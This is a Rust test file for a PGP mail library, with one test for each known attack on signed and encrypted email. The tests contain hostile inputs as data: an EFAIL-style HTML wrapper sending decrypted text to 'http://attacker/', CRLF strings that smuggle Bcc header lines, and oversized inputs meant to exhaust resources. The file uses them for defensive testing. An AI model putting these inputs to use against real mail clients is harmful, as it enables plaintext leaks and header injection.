//! Attacks on signed and encrypted mail, one test each.

use pgp_armor::autocrypt::Autocrypt;
use pgp_armor::mail::{
    self, FieldState, HeaderSets, InlineKind, Micalg, Mode, Protection, Shape, Signable, Signed,
    classify, inline_blocks, protect,
};

const SIGNED: &str = "Content-Type: multipart/signed; micalg=pgp-sha256; boundary=s;\n \
    protocol=\"application/pgp-signature\"\n\n\
    --s\nContent-Type: text/plain\n\nI pay 1 EUR.\n\
    --s\nContent-Type: application/pgp-signature\n\nxyz\n--s--\n";

fn nested(parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--m\n{part}\n")).collect();
    format!("Content-Type: multipart/mixed; boundary=m\n\n{parts}--m--\n")
}

/// Text before or after a signed part, as a part of its own.
#[test]
fn text_beside_a_signed_part_is_named() {
    let before = nested(&["\nI pay 1000 EUR.", SIGNED]);
    let after = nested(&[SIGNED, "Content-Type: text/html\n\n<style>div{display:none}</style>"]);
    for message in [before, after] {
        let found = classify(message.as_bytes()).unwrap();
        assert_eq!((found.shape, found.outside.len()), (Shape::Nested, 1), "{message}");
        assert!(!found.is_whole());
        let Protection::Signed(signed) = found.protection else { panic!("{message}") };
        assert!(signed.content().ends_with(b"I pay 1 EUR."));
    }
    assert!(classify(SIGNED.as_bytes()).unwrap().is_whole());
}

/// Two signed parts: which one would the mark of a good signature be for?
#[test]
fn two_signed_parts_are_no_finding() {
    assert!(classify(nested(&[SIGNED, SIGNED]).as_bytes()).is_none());
    let inline = "\n-----BEGIN PGP MESSAGE-----\n\nwsBc\n-----END PGP MESSAGE-----";
    assert!(classify(nested(&[SIGNED, inline]).as_bytes()).is_none());
}

/// A third part in a multipart/signed, which some programs show as signed.
#[test]
fn a_third_part_is_refused() {
    let message = SIGNED.replace("\n--s--", "\n--s\n\nI pay 1000 EUR.\n--s--");
    assert!(Signed::parse(message.as_bytes()).is_err());
    assert!(classify(message.as_bytes()).is_none());
    let one = SIGNED.replacen("--s\nContent-Type: text/plain\n\nI pay 1 EUR.\n", "", 1);
    assert!(Signed::parse(one.as_bytes()).is_err());
}

/// Preamble and epilogue are outside what is signed, and say where they are.
#[test]
fn preamble_and_epilogue_are_not_signed() {
    let message = SIGNED.replacen("\n\n--s", "\n\nI pay 1000 EUR.\n--s", 1) + "I pay 2000 EUR.\n";
    let signed = Signed::parse(message.as_bytes()).unwrap();
    assert_eq!(&message[signed.preamble()], "I pay 1000 EUR.");
    assert_eq!(&message[signed.epilogue().unwrap()], "I pay 2000 EUR.\n");
    assert_eq!(signed.content(), b"Content-Type: text/plain\n\nI pay 1 EUR.");
}

/// A signature part of another type must not be taken for one.
#[test]
fn types_and_protocol_are_checked() {
    for (from, to) in [
        ("application/pgp-signature\n\nxyz", "text/plain\n\nxyz"),
        ("\"application/pgp-signature\"", "\"application/pkcs7-signature\""),
        ("multipart/signed", "multipart/mixed"),
    ] {
        let message = SIGNED.replacen(from, to, 1);
        assert_ne!(message, SIGNED);
        assert!(Signed::parse(message.as_bytes()).is_err(), "{message}");
    }
}

/// EFAIL: an encrypted part between two halves of an HTML page.
#[test]
fn an_encrypted_part_between_html_is_not_whole() {
    let encrypted = "Content-Type: multipart/encrypted; boundary=e;\n \
        protocol=\"application/pgp-encrypted\"\n\n--e\nContent-Type: application/pgp-encrypted\n\n\
        Version: 1\n--e\nContent-Type: application/octet-stream\n\n-----BEGIN\n--e--";
    let html = "Content-Type: text/html\n\n<img src=\"http://attacker/";
    let message = nested(&[html, encrypted, "Content-Type: text/html\n\n\">"]);
    let found = classify(message.as_bytes()).unwrap();
    assert_eq!((found.shape, found.outside.len()), (Shape::Nested, 2));
    let Protection::Encrypted(encrypted) = found.protection else { panic!() };
    assert_eq!(encrypted.data().as_ref(), b"-----BEGIN");
}

/// The same with the parts that Exchange leaves.
#[test]
fn text_beside_a_mixed_up_part_is_named() {
    let data = "Content-Type: application/octet-stream\n\nx";
    let control = "Content-Type: application/pgp-encrypted\n\nVersion: 1";
    let message = nested(&["\n ", control, data]);
    assert!(classify(message.as_bytes()).unwrap().is_whole());
    let message = nested(&["\nRead this!", control, data, "\nAnd this!"]);
    let found = classify(message.as_bytes()).unwrap();
    assert_eq!((found.shape, found.outside.len()), (Shape::MixedUp, 2));
}

/// Text around an inline block, or a block that only looks like one.
#[test]
fn text_around_an_inline_block_is_not_protected() {
    let block = "-----BEGIN PGP SIGNED MESSAGE-----\n\nx\n-----BEGIN PGP SIGNATURE-----\n\nwsBc\n\
        -----END PGP SIGNATURE-----\n";
    assert!(classify(format!("\n{block}").as_bytes()).unwrap().is_whole());
    for text in [format!("\nI pay.\n{block}"), format!("\n{block}I pay.")] {
        let found = classify(text.as_bytes()).unwrap();
        assert_eq!(found.shape, Shape::Inline);
        assert!(!found.is_whole(), "{text}");
    }
    assert!(inline_blocks(format!("> {}", block.replace('\n', "\n> ")).as_bytes()).is_empty());
    assert!(inline_blocks(b"x -----BEGIN PGP MESSAGE-----\n-----END PGP MESSAGE-----").is_empty());
    assert!(inline_blocks(b"-----BEGIN PGP MESSAGE-----\n").is_empty());
    // A block that was broken off does not swallow the next one.
    let broken = format!("-----BEGIN PGP MESSAGE-----\nabc\n{block}");
    let blocks = inline_blocks(broken.as_bytes());
    assert_eq!((blocks.len(), blocks[0].kind), (1, InlineKind::SignedMessage));
}

/// A boundary that the content guessed would end the part early.
#[test]
fn content_cannot_end_its_own_part() {
    let mut first = Vec::new();
    let content = Signable::prepare(b"\nhello\n").unwrap();
    mail::encode_signed(&content, b"sig", Micalg::SHA256, &mut first);
    // The content is a whole multipart/signed with the boundary that would have come next.
    let content = Signable::prepare(&first).unwrap();
    let mut second = Vec::new();
    mail::encode_signed(&content, b"sig", Micalg::SHA256, &mut second);
    assert_eq!(Signed::parse(&second).unwrap().content(), content.as_bytes());
    assert_eq!(
        Signed::parse(Signed::parse(&second).unwrap().content()).unwrap().content(),
        b"\r\nhello\r\n"
    );
}

/// No value can bring a line of its own into what is written.
#[test]
fn nothing_injects_header_lines() {
    for bad in ["pgp-sha256\r\nBcc: x", "pgp-", "sha256", "pgp-sha256; x=y", "pgp-é"] {
        assert!(Micalg::try_from(bad).is_err(), "{bad}");
    }
    for bad in ["a@b\r\nBcc: c", "a@b;keydata=x", "a b", ""] {
        assert!(Autocrypt::new(bad, false, b"k").is_none(), "{bad:?}");
    }
    let mut out = Vec::new();
    Autocrypt::parse(b"addr=a\r\nBcc:x; keydata=mDME").unwrap().encode(&mut out);
    assert_eq!(out.iter().filter(|byte| **byte == b'\n').count(), 2);
}

/// `hp="cipher"` in a message that was not encrypted proves nothing.
#[test]
fn a_cipher_mark_without_encryption_hides_nothing() {
    let message = b"From: a@example.org\nSubject: Secret\n\nHello\n";
    let (_, payload) = protect(message, Mode::Cipher);
    let sets = HeaderSets::parse(&payload);
    let subject = &sets.protected[1];
    assert_eq!(sets.state(subject, false, false), FieldState::Unprotected);
    assert_eq!(sets.state(subject, false, true), FieldState::SignedOnly);
    assert_eq!(sets.state(subject, true, false), FieldState::EncryptedOnly);
    let unmarked = b"Subject: x\r\nContent-Type: text/plain\r\n\r\n";
    assert!(HeaderSets::parse(unmarked).protected.is_empty());
}

/// Fields that the sender already marks as seen outside, and marks of somebody else.
#[test]
fn marks_of_others_do_not_survive_protection() {
    let message = b"HP-Outer: Subject: x\nSubject: Secret\n\
        Content-Type: text/plain; hp=clear; charset=utf-8\n\nHello\n";
    let (outer, payload) = protect(message, Mode::Cipher);
    assert_eq!(outer, b"Subject: [...]\r\nMIME-Version: 1.0\r\n");
    let sets = HeaderSets::parse(&payload);
    assert_eq!(sets.mode, Some(Mode::Cipher));
    assert_eq!((sets.protected.len(), sets.outer.len()), (1, 1));
    assert!(!String::from_utf8(payload).unwrap().contains("hp=clear"));
}

/// Autocrypt fields that must count as none.
#[test]
fn bad_autocrypt_fields_count_as_none() {
    let key = "keydata=mDME";
    for bad in [
        "addr=a@b",
        key,
        "addr=a@b; keydata=*",
        "addr=a@b; addr=c@d; keydata=mDME",
        "addr=a@b; critical=1; keydata=mDME",
        "addr=a@b; keydata",
    ] {
        assert!(Autocrypt::parse(bad.as_bytes()).is_err(), "{bad}");
    }
    let long = format!("addr=a@b; _x={}; {key}", "y".repeat(11_000));
    assert!(Autocrypt::parse(long.as_bytes()).is_err());
    assert!(Autocrypt::parse(format!("addr=a@b; _x=1; {key}").as_bytes()).is_ok());

    let field = "Autocrypt: addr=a@b; keydata=mDME\n";
    let message = |fields: &str| format!("From: a@b\n{fields}\nbody");
    assert!(Autocrypt::of_message(message(field).as_bytes(), "a@b").is_some());
    assert!(Autocrypt::of_message(message(&field.repeat(2)).as_bytes(), "a@b").is_none());
    let other = field.replace("a@b", "c@d");
    assert!(Autocrypt::of_message(message(&other).as_bytes(), "a@b").is_none());
    assert!(Autocrypt::of_message(message(&(other + field)).as_bytes(), "a@b").is_some());
}

/// Deep nesting, many parts, many fields, long lines: bounded and linear.
#[test]
fn size_costs_no_more_than_it_should() {
    let deep: String = (0..2000)
        .map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n"))
        .collect();
    assert!(classify(deep.as_bytes()).is_none());
    let wide = nested(&vec!["\nx"; 20_000]);
    assert!(classify(wide.as_bytes()).is_none());
    let fields = "A: b\n c\n".repeat(200_000);
    assert!(classify(fields.as_bytes()).is_none());
    let dashes = format!("\n{}", "-----BEGIN PGP MESSAGE-----\n".repeat(100_000));
    assert!(classify(dashes.as_bytes()).is_none());
    let semicolons = format!("Content-Type: multipart/mixed{}\n\nx", "; a".repeat(200_000));
    assert!(classify(semicolons.as_bytes()).is_none());
    let quotes = format!("Content-Type: multipart/mixed; {}\n\nx", "\"(".repeat(200_000));
    assert!(classify(quotes.as_bytes()).is_none());
}
